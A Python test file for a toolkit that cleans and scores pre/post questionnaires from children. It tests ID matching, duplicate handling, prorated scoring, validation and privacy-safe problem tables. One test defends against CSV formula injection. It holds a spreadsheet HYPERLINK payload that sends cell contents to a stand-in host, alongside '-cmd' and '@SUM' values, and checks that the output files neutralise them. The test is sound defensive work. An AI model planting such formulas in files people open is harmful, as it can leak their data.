"""Each cleaning rule, the accounting identity and the scoring, against hand-worked values."""
import hashlib

import numpy as np
import pandas as pd
import pytest

from conftest import EAQ_ITEMS, ROOT, write_cohort
from evalkit.data.cleaning import band_ages, score
from evalkit.data.instruments import load_instrument, parse_instrument
from evalkit.data.pipeline import prepare_cohort

EAQ = load_instrument("eaq30")


def child(id_, tp, value=2, **over):
    row = {"child_id": id_, "timepoint": tp, "age": 9, "delivery": "group"}
    row.update({q: value for q in EAQ_ITEMS})
    row.update(over)
    return row


def prepared(tmp_path, rows):
    cfg = write_cohort(tmp_path, children=pd.DataFrame(rows))
    return prepare_cohort(cfg)


def log_for(cohort, **match):
    log = cohort.log
    for key, value in match.items():
        log = log[log[key] == value]
    return log


def test_ids_are_trimmed_and_case_folded_so_pre_and_post_match(tmp_path):
    cohort = prepared(tmp_path, [child("C007", "pre"), child("  c007 ", "post")])
    scores = cohort.children.scores
    assert scores["id"].tolist() == ["c007", "c007"]
    assert scores["matched"].all()
    trimmed = log_for(cohort, reason="id trimmed of spaces")
    assert trimmed["row"].tolist() == [3] and trimmed["detail"].iloc[0] == "'  c007 '"
    folded = log_for(cohort, reason="id case-folded")
    assert folded["row"].isna().all() and "1 ids" in folded["detail"].iloc[0]


def test_timepoint_labels_are_mapped_case_and_space_insensitively(tmp_path):
    cohort = prepared(tmp_path, [child("a", " Baseline"), child("a", "END ")])
    assert cohort.children.scores["timepoint"].tolist() == ["pre", "post"]
    mapped = log_for(cohort, reason="timepoint label mapped")
    assert mapped["detail"].tolist() == ["'Baseline' read as pre", "'END' read as post"]


def test_unknown_and_missing_timepoints_exclude_the_row(tmp_path):
    cohort = prepared(tmp_path, [child("a", "pre"), child("a", "mid"), child("b", None), child("a", "post")])
    assert len(cohort.children.scores) == 2
    rows = cohort.rows.set_index("_row")
    assert rows.loc[3, "reason"] == "unknown timepoint" and rows.loc[4, "reason"] == "missing timepoint"
    assert "label 'mid'" in log_for(cohort, reason="unknown timepoint")["detail"].iloc[0]


def test_labels_become_numbers_and_bad_answers_become_missing(tmp_path):
    cohort = prepared(tmp_path, [child("a", "pre", q30=" Often TRUE", q2="4", q8="n/a", q14="2.5"),
                                 child("a", "post")])
    items = cohort.children.items.set_index("timepoint")
    assert items.loc["pre", "q30"] == 3.0  # q30 is not reverse-keyed
    assert np.isnan(items.loc["pre", "q2"]) and np.isnan(items.loc["pre", "q8"])
    assert np.isnan(items.loc["pre", "q14"])
    reasons = dict(zip(log_for(cohort, action="set missing")["column"],
                       log_for(cohort, action="set missing")["reason"]))
    assert reasons == {"q2": "out of range", "q8": "not a number or response label", "q14": "not a whole number"}
    assert log_for(cohort, action="recoded", column="q30")["detail"].tolist() == ["'Often TRUE' read as 3"]


def test_exact_duplicates_keep_the_first_row(tmp_path):
    cohort = prepared(tmp_path, [child("a", "pre"), child("A ", "pre"), child("a", "post")])
    rows = cohort.rows.set_index("_row")
    assert rows.loc[2, "status"] == "kept" and rows.loc[3, "reason"] == "exact duplicate"
    assert log_for(cohort, reason="exact duplicate")["detail"].tolist() == ["same answers as children.csv row 2"]


def test_conflicting_duplicates_are_all_excluded(tmp_path):
    cohort = prepared(tmp_path, [child("a", "pre", value=1), child("a", "pre", value=3), child("a", "post"),
                                 child("b", "pre"), child("b", "post")])
    rows = cohort.rows.set_index("_row")
    assert rows.loc[[2, 3], "reason"].tolist() == ["conflicting duplicate"] * 2
    assert cohort.children.scores["id"].tolist() == ["a", "b", "b"]
    assert not cohort.children.scores.set_index(["id", "timepoint"]).loc[("a", "post"), "matched"]


def test_rows_without_id_or_answers_or_content_are_excluded(tmp_path):
    blank = {k: None for k in child("x", "pre")}
    empty = child("c", "pre", value=None)
    cohort = prepared(tmp_path, [child(None, "pre"), blank, empty, child("d", "pre")])
    rows = cohort.rows.set_index("_row")["reason"]
    assert rows.loc[[2, 3, 4, 5]].tolist() == ["missing id", "blank row", "no answers", ""]


def test_unmatched_people_are_kept_and_logged(tmp_path):
    cohort = prepared(tmp_path, [child("a", "pre"), child("a", "post"), child("b", "pre"), child("c", "post")])
    scores = cohort.children.scores.set_index("id")
    assert scores.loc["a", "matched"].all() and not scores.loc["b", "matched"] and not scores.loc["c", "matched"]
    assert sorted(log_for(cohort, action="noted")["reason"]) == ["no post questionnaire", "no pre questionnaire"]


def test_subscales_below_the_prorating_rule_are_not_scored(tmp_path):
    # differentiating has 7 items; 80% rule -> 6 needed. 2 blanks leave 5.
    cohort = prepared(tmp_path, [child("a", "pre", q1=None, q7=None), child("a", "post", q1=None)])
    sc = cohort.children.scores.set_index("timepoint")
    assert np.isnan(sc.loc["pre", "differentiating"]) and not np.isnan(sc.loc["post", "differentiating"])
    logged = log_for(cohort, action="not scored")
    assert logged["column"].tolist() == ["differentiating"]
    assert logged["detail"].iloc[0] == "5 of 7 items answered; 6 needed (80% rule)"


def test_age_bands_and_factors_come_from_the_baseline_row(tmp_path):
    cohort = prepared(tmp_path, [child("a", "pre", age=10, delivery=" Group"), child("a", "post", age=11),
                                 child("b", "pre", age=16, delivery="one-to-one"),
                                 child("c", "pre", age=17, delivery="GROUP")])
    sc = cohort.children.scores.set_index(["id", "timepoint"])
    assert sc.loc[("a", "post"), "age_band"] == "5-10"  # baseline age 10, a birthday is no disagreement
    assert sc.loc[("b", "pre"), "age_band"] == "11-16"
    assert pd.isna(sc.loc[("c", "pre"), "age_band"])
    assert set(sc["delivery"]) == {"group", "one-to-one"}  # ' Group', 'GROUP' folded to the common spelling
    assert "age 17 not in 5-17" in log_for(cohort, reason="age outside the configured age bands")["detail"].iloc[0]


def test_band_ages_edges():
    banded = band_ages(pd.Series([4.9, 5, 10.99, 11, 16.5, 17]), [5, 11, 17]).fillna("outside")
    assert banded.tolist() == ["outside", "5-10", "5-10", "11-16", "11-16", "outside"]


def test_accounting_identity_on_the_sample(sample_config):
    cohort = prepare_cohort(sample_config)
    s = cohort.summary
    assert (s["rows_in"] == s["rows_kept"] + s["rows_excluded"]).all()
    reasons = [c for c in s.columns if c not in ("section", "file", "rows_in", "rows_kept", "rows_excluded")]
    assert (s[reasons].sum(axis=1) == s["rows_excluded"]).all()
    # every input row appears exactly once in the row ledger
    assert len(cohort.rows) == s[s.file == "all files"]["rows_in"].sum()


def test_sample_planted_problems_are_all_accounted_for(sample_config):
    import json

    planted = json.loads((sample_config.parent / "planted.json").read_text())
    cohort = prepare_cohort(sample_config)
    counts = cohort.log.groupby(["section", "reason"]).size()
    kids = planted["children"] if "children" in planted else planted
    n = lambda key: kids[key]["count"] if isinstance(kids[key], dict) else len(kids[key])  # noqa: E731
    assert counts[("children", "exact duplicate")] == n("exact_duplicates")
    assert counts[("children", "conflicting duplicate")] == 2 * n("conflicting_duplicates")
    assert counts[("children", "unknown timepoint")] == n("unknown_timepoints")
    assert counts[("children", "out of range")] == n("out_of_range")
    assert counts[("children", "not a number or response label")] == n("unparseable")
    assert counts[("children", "response label mapped to number")] == n("text_labels")
    assert counts[("children", "too few items answered")] == n("unscorable")


def test_input_files_are_never_modified(sample_config, tmp_path):
    files = sorted(p for p in sample_config.parent.iterdir() if p.is_file())
    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in files}
    from evalkit.runner import report

    report(sample_config, out_dir=tmp_path / "out", notebooks=False)
    assert before == {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in files}


# --- scoring against hand-computed values --------------------------------------------------

def test_reverse_scoring_and_mean_by_hand(tmp_path):
    cohort = prepared(tmp_path, [child("a", "pre", value=1), child("a", "post", value=3)])
    sc = cohort.children.scores.set_index("timepoint")
    # differentiating: six of seven items reversed (1 -> 3), q30 not: (6*3 + 1) / 7
    assert sc.loc["pre", "differentiating"] == pytest.approx(19 / 7)
    assert sc.loc["post", "differentiating"] == pytest.approx((6 * 1 + 3) / 7)
    # not_hiding: all five reversed
    assert sc.loc["pre", "not_hiding"] == 3 and sc.loc["post", "not_hiding"] == 1
    # bodily_awareness: none reversed
    assert sc.loc["pre", "bodily_awareness"] == 1


def test_prorated_mean_and_sum():
    inst = parse_instrument({"id": "t", "response": {"min": 1, "max": 5}, "min_answered": 0.75, "scoring": "sum",
                             "subscales": [{"id": "s", "items": ["a", "b", "c", "d"], "reverse": ["d"]}]})
    items = pd.DataFrame({"a": [5, 5, 5], "b": [4, None, None], "c": [3, 3, None], "d": [2, 2, 2]})
    # sum: row 0 = 14; row 1 = mean(5, 3, 2) * 4 = 13.333; row 2 has 2 of 4 answered < 3 needed
    out = score(items, instrument=inst)["s"]
    assert out[0] == 14 and out[1] == pytest.approx(40 / 3) and np.isnan(out[2])
    mean_inst = parse_instrument({"id": "t", "response": {"min": 1, "max": 5}, "min_answered": 0.75,
                                  "subscales": [{"id": "s", "items": ["a", "b", "c", "d"]}]})
    assert score(items, instrument=mean_inst)["s"].tolist()[:2] == [3.5, pytest.approx(10 / 3)]


def test_total_scores_every_item():
    fac = load_instrument("facilitator_tip")
    assert fac.measures == ["knowledge", "understanding", "confidence", "total"]
    items = pd.DataFrame({i: [4.0] for i in fac.items})
    items["c4"] = [2.0]  # already keyed here: score() expects keyed answers
    out = score(items, instrument=fac)
    assert out.loc[0, "confidence"] == pytest.approx(3.5) and out.loc[0, "total"] == pytest.approx(46 / 12)


def test_only_some_subscales_collected(tmp_path):
    rows = [child("a", tp) for tp in ("pre", "post")]
    keep = {"child_id", "timepoint", "age", "delivery", "q1", "q7", "q13", "q19", "q25", "q28", "q30"}
    frame = pd.DataFrame(rows)[[c for c in rows[0] if c in keep]]
    cohort = prepare_cohort(write_cohort(tmp_path, children=frame))
    sec = cohort.children
    assert sec.measures == ["differentiating"]
    assert "not_hiding" in sec.not_collected and "not_hiding" not in sec.scores
    assert "subscale(s) not collected" in cohort.problems["problem"].str.cat()


# --- rules added for the malformed inputs of tests/data/bad ------------------------------------

def test_ids_differing_only_by_leading_zeros_are_kept_apart_and_noted(tmp_path):
    cohort = prepared(tmp_path, [child("007", "pre"), child("007", "post"), child("7", "post")])
    assert sorted(set(cohort.children.scores["id"])) == ["007", "7"]
    noted = log_for(cohort, reason="ids differ only by leading zeros")
    assert len(noted) == 3 and noted["detail"].str.startswith("'7', '007' are kept as different people").all()


def test_excel_errors_and_blank_ids(tmp_path):
    cohort = prepared(tmp_path, [child("#N/A", "pre"), child("  ", "pre"), child("a", "pre")])
    rows = cohort.rows.set_index("_row")["reason"]
    assert rows.loc[[2, 3, 4]].tolist() == ["missing id", "missing id", ""]
    assert log_for(cohort, reason="missing id")["detail"].tolist() == ["Excel error '#N/A' in the id cell", ""]


def test_a_row_of_white_space_is_a_blank_row(tmp_path):
    spaces = {k: "  " for k in child("x", "pre")}
    cohort = prepared(tmp_path, [spaces, child("a", "pre")])
    assert cohort.rows.set_index("_row").loc[2, "reason"] == "blank row"


def test_decimal_comma_and_invisible_characters(tmp_path):
    cohort = prepared(tmp_path, [child("a\u200b", "pre", q2="3,0", q8="2,5"), child("A\u00a0", "post")])
    items = cohort.children.items.set_index("timepoint")
    assert items.loc["pre", "q2"] == 3.0 and np.isnan(items.loc["pre", "q8"])
    assert cohort.children.scores["matched"].all()
    assert log_for(cohort, column="q2")["reason"].tolist() == ["decimal comma read as a decimal point"]


def test_baseline_factor_is_the_first_value_given(tmp_path):
    cohort = prepared(tmp_path, [child("a", "pre", delivery=None), child("a", "post", delivery="one-to-one"),
                                 child("b", "post", age=12), child("b", "pre", age=9)])
    sc = cohort.children.scores.set_index(["id", "timepoint"])
    assert sc.loc[("a", "pre"), "delivery"] == "one-to-one" and sc.loc[("b", "post"), "age"] == 9
    assert log_for(cohort, column="age", reason="differs from baseline value; baseline used")["row"].tolist() == [4]


def test_a_hash_collision_never_excludes_a_row(monkeypatch, tmp_path):
    """Rows are grouped by hash but compared value by value: make every hash equal and nothing changes."""
    import evalkit.data.cleaning as cleaning

    monkeypatch.setattr(cleaning.pd.util, "hash_array", lambda values, **kw: np.zeros(len(values), dtype=np.uint64))
    cohort = prepared(tmp_path, [child("a", "pre"), child("a", "pre", q1=3), child("a", "pre"),
                                 child("b", "pre"), child("b", "pre", q2=1), child("c", "pre")])
    reasons = cohort.rows.set_index("_row")["reason"].tolist()
    assert reasons == ["conflicting duplicate", "conflicting duplicate", "exact duplicate",
                       "conflicting duplicate", "conflicting duplicate", ""]


def test_scores_equal_the_pandas_mean_of_keyed_items():
    rng = np.random.default_rng(7)
    items = pd.DataFrame(rng.choice([1.0, 2.0, 3.0, np.nan], size=(200, 30), p=[0.3, 0.3, 0.3, 0.1]),
                         columns=[f"q{i}" for i in range(1, 31)])
    ours = score(items, instrument=EAQ)
    for sub in EAQ.subscales:
        block = items[list(sub.items)]
        expected = block.mean(axis=1).where(block.notna().sum(axis=1) >= np.ceil(0.8 * len(sub.items) - 1e-9))
        pd.testing.assert_series_equal(ours[sub.id], expected, check_names=False, rtol=1e-12)


def test_a_section_without_pairs_is_usable_with_a_warning(tmp_path):
    cohort = prepared(tmp_path, [child("a", "pre"), child("b", "pre")])
    problem = cohort.problems[cohort.problems["problem"].str.startswith("nobody has both")]
    assert problem["problem"].tolist() == ["nobody has both a pre and a post questionnaire "
                                           "(only pre questionnaires, 2 people)"]
    assert problem["severity"].tolist() == ["warning"] and not cohort.children.scores["matched"].any()


def test_by_value_runs_once_per_distinct_value():
    from evalkit.data.validation import by_value

    seen = []
    series = pd.Series(["2", "2", None, "x", "2"] * 1000)
    out = by_value(series, lambda v: seen.append(len(v)) or [len(str(x)) for x in v])
    assert seen == [3] and out.iloc[:5].tolist() == [1, 1, 4, 1, 1]  # '2', 'x' and the missing cell (None)


# ------------------------------------------------------------ fast paths give what the rules give one by one

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as hs  # noqa: E402

_ID_PIECES = ["C", "c", "0", "7", "007", "A-1", "é", "İ", "ß", " ", "  ", "\u00a0", "\u200b", "\t", "#N/A", "#n/a",
              "2024-01-05", "2024-01-05T10:00", "ﬁ", "Σ", "x\ny", ""]


@settings(max_examples=300, deadline=None)
@given(hs.lists(hs.lists(hs.sampled_from(_ID_PIECES), min_size=1, max_size=4).map("".join),
                min_size=1, max_size=12, unique=True))
def test_tidy_ids_take_the_joined_text_path_with_the_same_result(texts):
    from evalkit.data.cleaning import _clean_any_ids, _clean_tidy_ids

    fast = _clean_tidy_ids(texts)
    slow = _clean_any_ids(texts)
    if fast is None:  # some id needs the rules one by one
        from evalkit.data.validation import all_tidy
        assert not all_tidy(texts)
        return
    for got, want in zip(fast, slow):
        assert np.asarray(got, dtype=object).tolist() == np.asarray(want, dtype=object).tolist()


def test_validation_tries_distinct_values_first_and_reports_what_pandera_reports():
    # the reference is pandera run on every column (as objects), with no pre-screen
    import pandera.pandas as pa

    from evalkit.data.validation import answer_rules, answer_schema, validate_frame

    inst = load_instrument("eaq30")
    frame = pd.DataFrame({
        "id": pd.Categorical(["a", None, "c", "  ", "e"]),
        "timepoint": pd.Categorical(["pre", "pre", "mid", "post", "post"]),
        "q1": pd.Categorical(["2", "9", "2", "Often", None]),
        "q2": pd.Categorical(["1", "1", "1", "1", "1"]),
        "_row": [2, 3, 4, 5, 6]})
    schema = answer_schema(inst, items=["q1", "q2"], timepoint_labels=["pre", "post"])
    got = validate_frame(frame, schema=schema, section="children", file="x.csv")
    # cleaning passes the same checks without pandera (answer_rules): the same table
    rules = answer_rules(inst, items=["q1", "q2"], timepoint_labels=["pre", "post"])
    pd.testing.assert_frame_equal(validate_frame(frame, schema=rules, section="children", file="x.csv"), got)
    # one row per column and kind of problem: q1 holds "9" (out of range) and the unmapped "Often" (text)
    assert got[["column", "problem", "rows", "example_rows"]].values.tolist() == [
        ["id", "id is empty", 2, "3, 5"],
        ["q1", "a number outside 1-3", 1, "3"],
        ["q1", "text where a number or response label was expected", 1, "5"],
        ["timepoint", "timepoint label not in the config's timepoints (text)", 1, "4"]]
    with pytest.raises(pa.errors.SchemaErrors) as err:
        schema.validate(frame.astype({c: object for c in ("id", "timepoint", "q1", "q2")}), lazy=True)
    cases = err.value.failure_cases
    assert sorted(set(cases["column"])) == ["id", "q1", "timepoint"]
    assert (cases.groupby("column")["index"].nunique().to_dict()
            == got.groupby("column")["rows"].sum().to_dict())
    # and the very rows pandera names: source rows = index + 2 here
    for column, group in cases.groupby("column"):
        want = sorted(int(i) + 2 for i in group["index"].dropna().unique())
        shown = sorted(int(r) for rows in got.loc[got["column"] == column, "example_rows"] for r in rows.split(", "))
        assert shown == want, column


def test_cleaning_a_cohort_does_not_import_pandera():
    """pandera is the reference (above), not a cost of every report: cleaning the sample imports none of it."""
    import subprocess
    import sys

    code = ("import sys\nfrom evalkit.data.config import load_config\nfrom evalkit.data.pipeline import prepare_cohort\n"
            "prepare_cohort(load_config('data/sample/cohort.yml'))\n"
            "print(any(m == 'pandera' or m.startswith('pandera.') for m in sys.modules))")
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=ROOT)
    assert run.stdout.strip().splitlines()[-1] == "False"


# ----------------------------------------------------------------------------- issue 9: nothing lost silently

def test_booleans_nan_and_infinity_are_never_numbers(tmp_path):
    cohort = prepared(tmp_path, [child("C1", "pre", q1="TRUE", q2="nan", q3="inf", q4="-Infinity", age="True"),
                                 child("C1", "post", q1="false", q2="1e999", age="inf"),
                                 child("C2", "pre"), child("C2", "post", age="nan")])
    items = cohort.children.items.set_index(["id", "timepoint"])
    assert items.loc[("c1", "pre"), ["q1", "q2", "q3", "q4"]].isna().all()
    assert items.loc[("c1", "post"), ["q1", "q2"]].isna().all() and items.loc[("c1", "post"), "q3"] == 2
    reasons = log_for(cohort, action="set missing").groupby(["column", "reason"]).size().to_dict()
    assert reasons == {("q1", "not a number (true/false)"): 2,
                       ("q2", "not a finite number (NaN or infinity)"): 2,
                       ("q3", "not a finite number (NaN or infinity)"): 1,
                       ("q4", "not a finite number (NaN or infinity)"): 1,
                       ("age", "age not a number (true/false)"): 1,
                       ("age", "age not a finite number (NaN or infinity)"): 2}
    ages = cohort.children.scores.set_index(["id", "timepoint"])["age"]
    assert ages.loc[("c1", "pre")] != ages.loc[("c1", "pre")]  # NaN: no age, not infinity
    assert ages.loc[("c2", "post")] == 9  # the baseline age; 'nan' at post is not a number
    problems = cohort.problems.set_index("column")["problem"]
    assert problems["q1"] == "true/false where a number was expected"
    assert problems["q2"] == "not a finite number (NaN or infinity) where a number was expected"
    assert set(cohort.problems.loc[cohort.problems["column"] == "age", "problem"]) == {
        "true/false where an age was expected", "not a finite number (NaN or infinity) where an age was expected"}


def test_problems_table_names_the_kind_of_value_never_the_value(tmp_path):
    secrets = ["Jane Smith said she was scared", "2014-03-07", "Jane", "Often (3)"]
    rows = [child(f"C{i}", tp) for i in range(1, 4) for tp in ("pre", "post")]
    rows += [child("C4", "pre", q1=secrets[0], q2=secrets[1], age=secrets[1]), child("C4", secrets[2]),
             child("C5", "pre", q3=secrets[3], q4="2.5", q5="7")]
    cohort = prepared(tmp_path, rows)
    table = cohort.problems.to_csv(index=False)
    for secret in secrets:
        assert secret not in table
    got = cohort.problems.set_index("column")[["problem", "rows", "example_rows"]].to_dict("index")
    assert got["q1"] == {"problem": "text where a number or response label was expected", "rows": 1,
                         "example_rows": "8"}
    assert got["q2"]["problem"] == "a date where a number or response label was expected"
    assert got["q3"]["problem"] == "text where a number or response label was expected"
    assert got["q4"]["problem"] == "not a whole number (the scale is whole numbers 1-3)"
    assert got["q5"]["problem"] == "a number outside 1-3"
    assert got["age"]["problem"] == "a date where an age was expected"
    assert got["timepoint"] == {"problem": "timepoint label not in the config's timepoints (text)", "rows": 1,
                                "example_rows": "9"}
    # the restricted cleaning log keeps the value for the data team
    assert log_for(cohort, column="q1", action="set missing")["detail"].tolist() == [f"value '{secrets[0]}'"]


def test_a_fraction_on_a_whole_number_scale_is_not_called_out_of_range(tmp_path):
    inst = tmp_path / "ten.yml"
    inst.write_text("id: ten\nname: Ten\nresponse: {min: 0, max: 10}\nscoring: mean\nmin_answered: 0.5\n"
                    "subscales:\n  - {id: a, label: Worry, items: [q1, q2]}\n")
    rows = [{"child_id": f"C{i}", "timepoint": tp, "q1": "8.5" if i < 3 else "8", "q2": "11" if i == 0 else "7"}
            for i in range(10) for tp in ("pre", "post")]
    cfg = write_cohort(tmp_path, children=pd.DataFrame(rows), children_cfg={"instrument": "ten.yml"})
    cohort = prepare_cohort(cfg)
    got = cohort.problems.set_index("column")[["problem", "rows"]].to_dict("index")
    assert got == {"q1": {"problem": "not a whole number (the scale is whole numbers 0-10)", "rows": 6},
                   "q2": {"problem": "a number outside 0-10", "rows": 2}}
    # 8 of the 40 answers to 'Worry' (20%) were set missing: the cohort opens with a warning
    assert cohort.warnings == ["children: 20% of the answers to Worry were set missing (not a whole number: 6 cells; "
                               "out of range: fewer than 5 cells); see results/cleaning_log.csv"]


def test_warning_only_above_five_percent_of_a_measures_answers(tmp_path):
    # Verbal Sharing (q2, q8, q14): 40 children x 2 questionnaires x 3 items = 240 answers
    rows = [child(f"C{i:02d}", tp) for i in range(40) for tp in ("pre", "post")]
    for k in range(12):  # 12 of 240 = 5.0%: no warning
        rows[k]["q2"] = "1.5"
    assert prepared(tmp_path / "a", rows).warnings == []
    rows[12]["q8"] = "1.5"  # 13 of 240 = 5.4%
    rows[13]["q14"] = "Jane"
    cohort = prepared(tmp_path / "b", rows)
    assert cohort.warnings == ["children: 5.8% of the answers to Verbal Sharing of Emotions were set missing "
                               "(not a whole number: 13 cells; not a number or response label: fewer than 5 cells); "
                               "see results/cleaning_log.csv"]


def test_validate_opens_with_the_warnings(tmp_path, capsys):
    from evalkit.validate import validate

    rows = [child(f"C{i:02d}", tp, q1="2.5" if i < 30 else 2) for i in range(40) for tp in ("pre", "post")]
    cfg = write_cohort(tmp_path, children=pd.DataFrame(rows))
    assert validate(cfg) == 0
    out = capsys.readouterr().out.splitlines()
    # the instrument's own warning (eaq30's placeholder key) comes first, then the data's, before anything else
    assert out[0].startswith("check the questionnaire: Emotion Awareness Questionnaire (EAQ-30) uses a placeholder")
    assert out[1] == ("warning: children: 11% of the answers to Differentiating Emotions were set missing "
                      "(not a whole number: 60 cells); see results/cleaning_log.csv")
    assert out[-1].startswith("The data is usable. Read the warning(s) at the top first")


def test_nul_bytes_are_logged_per_file(tmp_path):
    frame = pd.DataFrame([child("C1", "pre"), child("C1", "post")])
    cfg = write_cohort(tmp_path, children=frame)
    path = tmp_path / "children.csv"
    text = path.read_bytes()
    path.write_bytes(text.replace(b"C1,post", b"C\x001,post"))
    cohort = prepare_cohort(cfg)
    assert cohort.children.scores["matched"].all()  # 'C\0' + '1' is C1 again, not a cut-short 'C'
    log = log_for(cohort, reason="NUL bytes removed")
    assert log[["file", "column", "action"]].values.tolist() == [["children.csv", "", "recoded"]]
    assert log["detail"].iloc[0].startswith("1 NUL byte(s) removed from 1 line(s) (line 3)")


def test_a_column_named_file_or_row_is_data_not_the_readers_own(tmp_path):
    frame = pd.DataFrame([child("C1", "pre", _file="x.csv", _row=99), child("C1", "post", _file="y.csv", _row=98)])
    cfg = write_cohort(tmp_path, children=frame, children_cfg={"columns": {
        "id": "child_id", "timepoint": "timepoint", "site": "_file"}})
    cohort = prepare_cohort(cfg)
    assert cohort.rows["_file"].tolist() == ["children.csv", "children.csv"]
    assert cohort.rows["_row"].tolist() == [2, 3]
    assert cohort.children.scores["site"].tolist() == ["x.csv", "x.csv"]  # the baseline row's site


# ----------------------------------------------------------------------------- formula neutralising (issue 9)

def test_results_csvs_neutralise_formulas_and_leave_numbers_alone(tmp_path):
    from evalkit.data.pipeline import write_cleaning_results

    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    rows = [child(evil, "pre", delivery="+1", referral_reason="@SUM(A1:A9)", site="-cmd", q1="x"),
            child(evil, "post", delivery="+1", referral_reason="@SUM(A1:A9)", site="-cmd"),
            child("\tC2", "pre", delivery="group", referral_reason="school", site="north"),
            child("\tC2", "post", delivery="group", referral_reason="school", site="north")]
    frame = pd.DataFrame(rows)
    cfg = write_cohort(tmp_path / "in", children=frame)
    cohort = prepare_cohort(cfg)
    written = write_cleaning_results(cohort, tmp_path / "results")
    scores = pd.read_csv(tmp_path / "results" / "scores.csv", dtype=str, keep_default_na=False)
    lowered = evil.casefold()
    assert sorted(set(scores["id"])) == ["'" + lowered, "c2"]  # '\tC2' is trimmed to c2 by cleaning
    first = scores[scores["id"] == "'" + lowered].iloc[0]
    assert (first["delivery"], first["referral_reason"], first["site"]) == ("'+1", "'@SUM(A1:A9)", "'-cmd")
    assert scores["age"].tolist() == ["9"] * 4 and scores["differentiating"].iloc[0] == "2"
    log = pd.read_csv(tmp_path / "results" / "cleaning_log.csv", dtype=str, keep_default_na=False)
    assert set(log.loc[log["column"] == "q1", "id"]) == {"'" + lowered}
    assert not any(c.startswith(("=", "+", "-", "@")) for p in written
                   for c in pd.read_csv(p, dtype=str, keep_default_na=False).to_numpy().ravel())
    assert cohort.children.scores["id"].iloc[0] == lowered  # only the file is changed, not the data


def test_write_results_neutralises_text_not_numbers(tmp_path):
    from evalkit.report.analysis import write_results

    table = pd.DataFrame({"level": ["-0.5", "+1", "=1+1", "@x", "\rcr", "ok", None],
                          "change": [-0.5, 1.0, -2.25, 0.0, -1e-12, 3.0, float("nan")],
                          "n": [-1, 2, 3, 4, 5, 6, 7],
                          "cat": pd.Categorical(["-a", "b", "-a", "b", "b", "b", None])})
    path, = write_results({"t": table}, tmp_path)
    assert path.read_bytes().decode("utf-8").split("\n")[:-1] == [
        "level,change,n,cat", "'-0.5,-0.5,-1,'-a", "'+1,1,2,b", "'=1+1,-2.25,3,'-a", "'@x,0,4,b",
        "'\rcr,-1e-12,5,b", "ok,3,6,b", ",,7,"]
    assert table["level"].iloc[0] == "-0.5"  # the caller's frame is left as it was


def test_sample_results_are_unchanged_by_formula_neutralising():
    from evalkit.data.pipeline import neutralise_formulas

    cohort = prepare_cohort("data/sample/cohort.yml")
    for table in (cohort.log, cohort.summary, cohort.problems, cohort.scores_table()):
        assert neutralise_formulas(table) is table  # nothing in the sample starts like a formula


def test_nothing_usable_error_counts_the_answers_and_quotes_none(tmp_path):
    # the message may reach the batch index, which is shared: a child's words must not be in it
    from evalkit.errors import DataError

    rows = [child("C1", tp, value="Jane Smith said she was scared") for tp in ("pre", "post")]
    with pytest.raises(DataError) as err:
        prepared(tmp_path, rows)
    assert "Jane" not in str(err.value)
    assert "the answers were not a number or response label (60 cells; open the file to see them)" in str(err.value)
